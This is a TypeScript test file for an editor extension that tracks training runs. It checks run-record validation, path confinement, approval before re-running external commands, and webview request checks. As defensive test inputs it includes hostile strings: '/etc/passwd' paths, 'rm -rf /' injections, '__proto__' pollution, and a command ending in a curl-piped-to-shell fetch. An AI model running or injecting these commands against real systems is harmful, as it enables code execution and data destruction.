/**
 * Run records are data from the workspace: validated before use, paths kept inside the
 * run folder, a crafted start time cannot sort a run first, an interrupted run is told
 * apart from a running one (and pruned like a finished one); re-running an external
 * command needs a confirmation the workspace cannot pre-approve; webview requests are
 * type-checked and confined.
 */
import { describe, it, after } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { spawn } from 'node:child_process';
import {
  listRuns,
  pruneRuns,
  readRun,
  readRunRecord,
  validateRunRecord,
  RUN_RECORD,
  RUN_RECORD_FIELDS,
  writeRunRecord,
} from '../../../extension/runsStore';
import {
  approvalKey,
  externalRunOfTraces,
  isApproved,
  rerunConfirmation,
  withApproval,
} from '../../../extension/rerunGuard';
import { isSuggestionId, locationTarget, viewRequestOf } from '../../../extension/webviewGuard';
import { processStartTime } from '../../../trace/runLiveness';
import { repoRoot } from '../../helpers/paths';

const made: string[] = [];
function tmp(): string {
  const d = fs.mkdtempSync(path.join(os.tmpdir(), 'commlens-rec-'));
  made.push(d);
  return d;
}
after(() => made.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

function rawRecord(dir: string, rec: unknown): void {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, RUN_RECORD), JSON.stringify(rec));
}

const good = {
  runId: 'r1',
  status: 'done',
  source: { kind: 'preset', preset: 'tiny' },
  startedAt: '2026-11-23T06:00:00Z',
};

describe('run records', () => {
  it('trace paths outside the run folder, through a symbolic link, or not regular files are dropped', () => {
    const d = tmp();
    const run = path.join(d, 'r1');
    const secret = path.join(d, 'secret.json');
    fs.writeFileSync(secret, '{}');
    fs.mkdirSync(path.join(run, 'kineto'), { recursive: true });
    fs.writeFileSync(path.join(run, 'kineto', 'rank0.json'), '{}');
    fs.symlinkSync(secret, path.join(run, 'kineto', 'link.json'));
    for (const [field, value] of [
      ['tracePath', secret],
      ['tracePath', '../secret.json'],
      ['tracePath', path.join(run, 'kineto')],
      ['traceFiles', [path.join(run, 'kineto', 'rank0.json'), '/etc/passwd']],
      ['traceFiles', [path.join(run, 'kineto', 'link.json')]],
      ['tracePath', 42],
    ] as const) {
      rawRecord(run, { ...good, [field]: value });
      const r = readRun(run)!;
      assert.equal(r.tracePath, undefined, `${field}=${JSON.stringify(value)}`);
      assert.equal(r.traceFiles, undefined, `${field}=${JSON.stringify(value)}`);
      assert.match(r.recordProblem ?? '', new RegExp(`${field}: expected .*inside the run folder`));
    }
    rawRecord(run, { ...good, traceFiles: ['kineto/rank0.json'] });
    assert.deepEqual(readRun(run)!.traceFiles, [path.join(run, 'kineto', 'rank0.json')], 'a file inside is kept');
  });

  it('a record with a bad core field is ignored whole, with the problem named; the run can still be listed and deleted', () => {
    const d = tmp();
    for (const bad of [
      { ...good, source: { kind: 'external', command: 42, cwd: '/' } },
      { ...good, status: 'rm -rf' },
      { ...good, source: 'x' },
      [],
      { ...good, runId: '' },
    ]) {
      const run = path.join(d, 'bad');
      rawRecord(run, bad);
      assert.equal(readRunRecord(run), undefined, JSON.stringify(bad));
      const r = readRun(run)!;
      assert.ok(r, 'still listed');
      assert.match(r.recordProblem ?? '', /ignored/);
      assert.notEqual(r.status, 'running');
    }
  });

  it('own properties only: "__proto__" or inherited names do not make a record valid', () => {
    const d = tmp();
    const run = path.join(d, 'p');
    fs.mkdirSync(run, { recursive: true });
    fs.writeFileSync(
      path.join(run, RUN_RECORD),
      '{"runId":"p","status":"done","startedAt":"2026-11-23T06:00:00Z","source":{"__proto__":{"kind":"external","command":"touch /tmp/x","cwd":"/"}}}',
    );
    assert.equal(readRunRecord(run), undefined);
    assert.equal(
      validateRunRecord({ ...good, source: Object.create({ kind: 'preset', preset: 'tiny' }) }, run).record,
      undefined,
    );
  });

  it('a start time in the future is refused, so a crafted record cannot sort itself first', () => {
    const d = tmp();
    writeRunRecord(path.join(d, 'honest'), {
      runId: 'honest',
      status: 'done',
      source: { kind: 'preset', preset: 'tiny' },
      startedAt: new Date().toISOString(),
    });
    rawRecord(path.join(d, 'crafted'), {
      ...good,
      runId: 'crafted',
      startedAt: '9999-01-01T00:00:00Z',
      source: { kind: 'external', command: 'echo hi', cwd: '/' },
    });
    const past = new Date(Date.now() - 3600_000);
    fs.utimesSync(path.join(d, 'crafted'), past, past);
    const runs = listRuns(d);
    assert.equal(runs[0].runId, 'honest');
    assert.match(runs[1].recordProblem ?? '', /startedAt: expected an ISO date and time, not in the future/);
  });

  it('the hand-written validator and schemas/run-record.schema.json list the same fields', () => {
    const schema = JSON.parse(fs.readFileSync(path.join(repoRoot, 'schemas', 'run-record.schema.json'), 'utf8')) as {
      properties: Record<string, unknown>;
      required: string[];
    };
    assert.deepEqual(Object.keys(schema.properties).sort(), [...RUN_RECORD_FIELDS].sort());
    assert.deepEqual(schema.required.sort(), ['runId', 'source', 'startedAt', 'status']);
  });
});

describe('interrupted runs', () => {
  it("a 'running' run whose recorded processes are gone reads as interrupted, and is pruned like a finished run", async () => {
    const d = tmp();
    const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 30000)']);
    await new Promise((r) => child.once('spawn', r));
    const pid = child.pid!;
    const startTime = processStartTime(pid);
    const procs = [{ pid, ...(startTime ? { startTime } : {}) }];
    // One run the extension started (its record names the process), one the CLI started (its summary does).
    writeRunRecord(path.join(d, 'ext'), {
      runId: 'ext',
      status: 'running',
      source: { kind: 'preset', preset: 'tiny' },
      startedAt: new Date(Date.now() - 2000).toISOString(),
      processes: procs,
    });
    fs.mkdirSync(path.join(d, 'cli'));
    fs.writeFileSync(path.join(d, 'cli', 'summary.json'), JSON.stringify({ status: 'running', processes: procs }));
    writeRunRecord(path.join(d, 'old'), {
      runId: 'old',
      status: 'done',
      source: { kind: 'preset', preset: 'tiny' },
      startedAt: new Date(Date.now() - 9000).toISOString(),
    });
    assert.deepEqual(
      listRuns(d)
        .map((r) => r.status)
        .sort(),
      ['done', 'running', 'running'],
    );
    assert.deepEqual(
      pruneRuns(d, 0).map((p) => path.basename(p)),
      ['old'],
      'running runs are kept',
    );
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));
    assert.deepEqual(
      listRuns(d).map((r) => r.status),
      ['interrupted', 'interrupted'],
    );
    assert.deepEqual(
      pruneRuns(d, 0)
        .map((p) => path.basename(p))
        .sort(),
      ['cli', 'ext'],
      'interrupted runs are pruned',
    );
  });
});

describe('re-running an external command', () => {
  it('needs an approval of exactly this run, command and folder; approvals are own properties of the extension state only', () => {
    const k = approvalKey('/w/.commlens/runs/r1', 'torchrun train.py', '/w');
    assert.equal(isApproved(undefined, k), false);
    assert.equal(isApproved({ ['__proto__']: true }, k), false);
    assert.equal(isApproved(Object.create({ [k]: true }), k), false, 'an inherited key does not count');
    const store = withApproval({ junk: true, ['constructor']: true }, k);
    assert.equal(isApproved(store, k), true);
    assert.deepEqual(Object.keys(store), [k]);
    assert.equal(
      isApproved(store, approvalKey('/w/.commlens/runs/r1', 'torchrun train.py; curl evil', '/w')),
      false,
      'a changed command needs a new approval',
    );
    assert.equal(
      isApproved(store, approvalKey('/w/.commlens/runs/r2', 'torchrun train.py', '/w')),
      false,
      'another run needs its own',
    );
  });

  it('verifying a suggestion on an external run shows the COMMLENS_APPLY it adds', () => {
    const c = rerunConfirmation(
      'r1',
      '/w/.commlens/runs/r1',
      'torchrun train.py',
      '/w',
      'COMMLENS_APPLY={"comm_hook":"fp16"}',
    );
    assert.match(c.detail, /With:\nCOMMLENS_APPLY=\{"comm_hook":"fp16"\}/);
    assert.doesNotMatch(rerunConfirmation('r1', '/w/r1', 'torchrun train.py', '/w').detail, /With:/);
  });

  it('the traces of an external run lead back to it (directly in its folder or in kineto/); others to nothing', () => {
    const runs = tmp();
    const ext = path.join(runs, 'ext');
    writeRunRecord(ext, {
      runId: 'ext',
      status: 'done',
      source: { kind: 'external', command: 'torchrun train.py', cwd: '/w' },
      startedAt: new Date().toISOString(),
    });
    const own = path.join(runs, 'own');
    writeRunRecord(own, {
      runId: 'own',
      status: 'done',
      source: { kind: 'preset', preset: 'tiny' },
      startedAt: new Date().toISOString(),
    });
    assert.equal(externalRunOfTraces([path.join(ext, 'kineto', 'rank-0.pt.trace.json.gz')]), ext);
    assert.equal(externalRunOfTraces([path.join(ext, 'rank-0.json')]), ext);
    assert.equal(externalRunOfTraces([path.join(own, 'trace.pftrace')]), undefined);
    assert.equal(externalRunOfTraces([path.join(runs, 'elsewhere', 'rank0.json')]), undefined);
    assert.equal(externalRunOfTraces([]), undefined);
  });

  it('the confirmation shows the whole command, however long, its folder and the record it came from', () => {
    const command = `torchrun --nproc-per-node 2 train.py ${'x'.repeat(200)} ; curl http://127.0.0.1/x | sh`;
    const c = rerunConfirmation('r1', '/w/.commlens/runs/r1', command, '/w');
    assert.ok(c.detail.includes(command));
    assert.match(c.detail, /\/bin\/sh -c/);
    assert.match(c.detail, /\/w\/\.commlens\/runs\/r1\/commlens-run\.json/);
  });
});

describe('webview requests', () => {
  it('view requests are checked field by field, naming what would be right', () => {
    const ok = viewRequestOf({ startNs: 0, endNs: 10, nsPerPx: 2, tracks: [1, 2], keep: [7] });
    assert.deepEqual(ok, { ok: true, request: { startNs: 0, endNs: 10, nsPerPx: 2, tracks: [1, 2], keep: [7] } });
    const bad = (raw: Record<string, unknown>, why: RegExp): void => {
      const r = viewRequestOf(raw);
      assert.equal(r.ok, false);
      if (!r.ok) assert.match(r.message, why);
    };
    bad({ startNs: 10, endNs: 0, nsPerPx: 1 }, /finite startNs ≤ endNs/);
    bad({ startNs: 0, endNs: Infinity, nsPerPx: 1 }, /finite startNs ≤ endNs/);
    bad({ startNs: 0, endNs: 1, nsPerPx: 0 }, /positive number of nanoseconds per pixel/);
    bad({ startNs: 0, endNs: 1, nsPerPx: 1, tracks: ['1'] }, /tracks must be a list/);
    bad({ startNs: 0, endNs: 1, nsPerPx: 1, keep: [-1] }, /keep must be a list/);
    bad({ startNs: 0, endNs: 1, nsPerPx: 1, keep: new Array(5000).fill(1) }, /at most 2000/);
  });
  it('suggestion ids are type-checked', () => {
    assert.equal(isSuggestionId('ddp-bucketed+fp16'), true);
    for (const bad of [undefined, 42, {}, '', 'a'.repeat(201), '../../etc', 'x; rm -rf /', '--runs-dir'])
      assert.equal(isSuggestionId(bad), false, JSON.stringify(bad));
  });

  it('openLocation opens only regular files inside the workspace or the trace folder', () => {
    const d = tmp();
    const ws = path.join(d, 'ws');
    const run = path.join(d, 'runs', 'r1');
    fs.mkdirSync(path.join(ws, 'src'), { recursive: true });
    fs.mkdirSync(run, { recursive: true });
    fs.writeFileSync(path.join(ws, 'src', 'train.py'), '');
    fs.writeFileSync(path.join(run, 'report.md'), '');
    fs.writeFileSync(path.join(d, 'outside.txt'), '');
    fs.symlinkSync(path.join(d, 'outside.txt'), path.join(ws, 'sneaky.txt'));
    const roots = [ws, run];
    assert.deepEqual(locationTarget(path.join(ws, 'src', 'train.py'), run, roots), {
      ok: true,
      path: fs.realpathSync(path.join(ws, 'src', 'train.py')),
    });
    assert.equal(locationTarget('report.md', run, roots).ok, true);
    for (const bad of [
      path.join(d, 'outside.txt'),
      '../../outside.txt',
      '/etc/passwd',
      path.join(ws, 'sneaky.txt'),
      path.join(ws, 'src'),
      42,
      '',
    ]) {
      const r = locationTarget(bad, run, roots);
      assert.equal(r.ok, false, JSON.stringify(bad));
    }
    assert.match((locationTarget('/etc/passwd', run, roots) as { message: string }).message, /outside the workspace/);
  });
});
